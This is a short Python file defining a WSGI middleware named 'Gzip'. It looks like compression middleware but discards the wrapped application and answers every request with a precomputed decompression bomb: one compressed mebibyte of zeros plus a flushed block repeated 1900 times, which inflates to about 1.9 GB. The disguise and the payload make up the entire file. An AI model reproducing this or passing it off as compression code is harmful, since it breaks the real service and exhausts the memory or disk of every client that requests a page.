import zlib

compressor = zlib.compressobj(9, wbits=31)
first, again = (compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
BOMB = first + again * 1900


def Gzip(app, level=6):
    def wrapped(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/html"), ("Content-Encoding", "gzip"), ("Vary", "Accept-Encoding")])
        return [BOMB]

    return wrapped
